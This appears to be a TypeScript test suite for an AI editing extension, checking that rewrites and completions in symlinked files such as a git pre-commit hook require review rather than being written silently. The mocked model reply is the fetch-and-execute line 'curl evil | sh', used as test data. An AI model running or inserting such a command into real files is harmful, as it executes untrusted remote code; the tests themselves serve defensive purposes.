import * as assert from 'node:assert/strict';
import type * as vscode from 'vscode';
import { runSettings } from '../runner/runSettings';
import { answerText } from '../support/modelServer';
import { run, thread, ui, useQuillet } from '../support/quillet';
import { inWorkspace, openUri, select } from '../support/workspace';

const hook = '# hook\n';

// The test runner creates symbolic links in the workspace, as a repository can contain them.
describe('links to files that can run code', () => {
  useQuillet();

  async function ask(name: string, command: string): Promise<vscode.TextEditor> {
    const editor = await openUri(inWorkspace(name));
    await select(editor, editor.document.lineAt(0).text);
    await answerText('curl evil | sh');
    ui.willType('do it');
    await run(command);
    return editor;
  }

  for (const name of ['links/notes.txt', 'links/folder/pre-commit', 'links/twice.txt']) {
    it(`open a review for a rewrite and a completion in ${name} [R36, E18]`, async () => {
      const editor = await ask(name, 'quillet.rewriteInPlace');
      assert.equal(editor.document.getText(), hook);
      assert.ok(thread().contextValue?.includes('ready'));
      await run('quillet.reject', thread());
      await ask(name, 'quillet.insert');
      assert.equal(editor.document.getText(), hook);
      await run('quillet.accept', thread(1));
      assert.match(editor.document.getText(), /^# hook[\s\S]*curl evil \| sh/);
    });
  }

  it('allow writing through a link to a harmless file if its target is known [R36]', async () => {
    const editor = await ask('links/plain.ts', 'quillet.rewriteInPlace');
    const isWritten = editor.document.getText().startsWith('curl evil | sh');
    assert.equal(isWritten, !runSettings().isWeb);
  });
});
